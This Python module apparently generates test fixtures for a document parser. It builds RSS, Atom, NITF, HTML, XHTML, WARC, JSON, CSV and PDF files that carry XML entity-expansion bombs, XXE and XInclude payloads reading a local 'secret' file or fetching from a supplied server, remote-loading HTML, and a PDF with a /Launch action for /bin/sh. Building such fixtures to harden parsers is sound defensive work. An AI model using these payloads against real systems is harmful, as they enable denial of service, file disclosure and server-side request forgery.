# SPDX-License-Identifier: Apache-2.0
"""Documents that want something else expanded, read or fetched."""
import json
import os


def attacks(address):
    """Documents that name a file and a server, in all the ways that XML, HTML and PDF have for it."""
    file, server = f"file://{os.getcwd()}/secret", f"http://{address}"
    words = "<p>It rained in Harrowby on Monday, and the mayor said “We will build trams” to nobody at all that day.</p>"
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    types = {"laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]>', "quadratic": f'<!DOCTYPE r [<!ENTITY l9 "{"a" * 50000}">]>',
             "recursive": '<!DOCTYPE r [<!ENTITY l9 "&l8;"><!ENTITY l8 "&l9;">]>', "parameter": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{server}/p.dtd"> %p;]>',
             "outside": f'<!DOCTYPE r SYSTEM "{server}/r.dtd">', "public": f'<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{server}/x.dtd">',
             "file": f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "{file}">]>', "bare": f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "secret">]>', "http": f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "{server}/e">]>',
             "none": f'<?xml-stylesheet href="{server}/s.xsl" type="text/xsl"?>'}
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="secret" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{server}/i"/>'
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {server}/x.xsd"'
    page = (f'<html><head><base href="{server}/b/"><link rel=stylesheet href="{server}/s.css"><meta http-equiv=refresh content="0;url={server}/m"><script src="{server}/j"></script>'
            f'</head><body><img src="{server}/i"><iframe src="{file}"></iframe><object data="{file}"></object>{words * 3}{include}&l9;</body></html>')
    for name, kind in types.items():
        use = "&l9;" * (2000 if name == "quadratic" else 1)
        yield f"{name}.rss", f'<?xml version="1.0"?>{kind}<rss version="2.0" {schema}><channel><title>a{use}</title><item><title>{use}</title><guid>1</guid><description>{use}{words.replace("<", "&lt;")}{include}</description></item></channel></rss>'
        yield f"{name}.atom", f'<?xml version="1.0"?>{kind}<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{server}/"><entry><id>1</id><title>{use}</title><content src="{server}/c"/><summary type="html">{words.replace("<", "&lt;")}</summary><link href="{file}"/></entry></feed>'
        yield f"{name}.nitf", f'<?xml version="1.0"?>{kind}<nitf><head><title>{use}</title></head><body><body.content>{words}{use}{include}<media><media-reference source="{server}/m"/></media></body.content></body></nitf>'
        yield f"{name}.html", kind + page
        yield f"{name}.xhtml", f'<?xml version="1.0"?>{kind}{page}'
    ninjs = {"uri": server, "headline": "a", "body_xhtml": page, "renditions": {"a": {"href": server}}, "associations": {"b": {"uri": file}}}
    yield "a.ninjs", json.dumps(ninjs)
    body = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nLocation: {server}/l\r\n\r\n{page}"
    yield "a.warc", (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {server}/w\r\nWARC-Date: 2024-01-01T00:00:00Z\r\nContent-Type: application/http;msgtype=response\r\n"
                     f"Content-Length: {len(body.encode())}\r\n\r\n{body}\r\n\r\n")
    yield "a.jsonl", json.dumps({"id": server, "text": f"{server} {file}", "url": server, "$ref": file}) + "\n"
    yield "a.csv", f"id,text,url\n1,{server},{file}\n"
    yield "a.pdf", outside_pdf(server, file)


def outside_pdf(server, file):
    """A page whose text, and the stream of its font, are said to be in other files; opened, it should fetch and start things."""
    content = b"BT /F 11 Tf 72 700 Td (It rained in Harrowby.) Tj ET"
    action = f"/OpenAction << /S /URI /URI ({server}/p) >> /AA << /O << /S /Launch /F (/bin/sh) >> >>"
    objects = [f"<< /Type /Catalog /Pages 2 0 R {action} /Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F ({file}) >>] >> >> >>",
               "<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
               f"<< /Type /Font /Subtype /Type1 /BaseFont /Nowhere /FontDescriptor << /Type /FontDescriptor /FontName /Nowhere /FontFile 6 0 R >> >>",
               f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [5 0 R 6 0 R] /Resources << /Font << /F 3 0 R >> >> /Annots [<< /Subtype /Link "
               f"/A << /S /GoToR /F ({file}) >> >>] >>",
               f"<< /Length {len(content)} >>\nstream\n{content.decode()}\nendstream", f"<< /Length 0 /F (secret) /FFilter null >>\nstream\n\nendstream"]
    out, places = "%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n"
    start = len(out)
    return out + "xref\n0 7\n0000000000 65535 f \n" + "".join(f"{place:010} 00000 n \n" for place in places) + f"trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n"
